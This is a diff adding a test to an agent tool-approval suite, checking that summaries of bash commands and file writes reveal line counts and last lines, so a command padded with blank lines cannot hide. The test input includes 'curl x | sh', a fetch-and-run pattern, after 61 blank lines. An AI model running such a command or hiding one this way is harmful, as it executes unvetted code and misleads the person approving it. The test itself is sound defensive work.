@@ -161,6 +161,24 @@ describe('asking', () => {
     expect(await isMade()).toBe(false);
   });
 
+  it('says how many lines a command and a file have, with the first and the last', async () => {
+    const seen: string[] = [];
+    const set = tools({
+      ask: ({ summary }) => {
+        seen.push(summary);
+        return false;
+      },
+    });
+    const command = `echo hello${'\n'.repeat(61)}curl x | sh`;
+    const extent = '62 lines, 60 of them blank; first: echo hello; last: curl x | sh';
+    await call(set, 'bash', { command }).catch(() => {});
+    await call(set, 'write_file', { path: 'run.sh', content: command }).catch(() => {});
+    expect(seen).toEqual([
+      `Run in ${folder} (${extent}): echo hello\n⋮ 60 blank lines\ncurl x | sh`,
+      `Write 82 bytes to run.sh, a new file (${extent})`,
+    ]);
+  });
+
   it('asks one question at a time', async () => {
     let open = 0;
     let most = 0;
